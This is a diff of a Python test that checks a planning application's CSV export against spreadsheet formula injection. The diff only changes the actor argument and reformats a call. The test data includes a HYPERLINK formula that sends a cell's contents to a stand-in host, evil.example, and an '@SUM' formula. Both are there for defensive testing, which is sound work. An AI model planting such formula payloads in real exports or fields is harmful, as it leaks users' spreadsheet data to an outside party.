@@ -252,10 +252,14 @@ def test_plan_page_query_count_is_bounded(client, plan, django_assert_max_num_qu
 def test_plan_exports_run_no_formulas(client, plan):
     payload = '=HYPERLINK("http://evil.example/?"&A1,"x")'
     services.define_measure(
-        plan["goal"], "1.3", actor=None, title_fi=payload, responsible=[], business=True
+        plan["goal"], "1.3", actor=System("test"), title_fi=payload, responsible=[], business=True
     )
     services.define_indicator(
-        "strategies", actor=None, source="@SUM(1+1)", baseline=-2, measures=[plan["measure"]]
+        "strategies",
+        actor=System("test"),
+        source="@SUM(1+1)",
+        baseline=-2,
+        measures=[plan["measure"]],
     )
     csv_rows = list(
         csv.reader(io.StringIO(client.get("/plan/2007-2009/plan.csv").content.decode("utf-8-sig")))
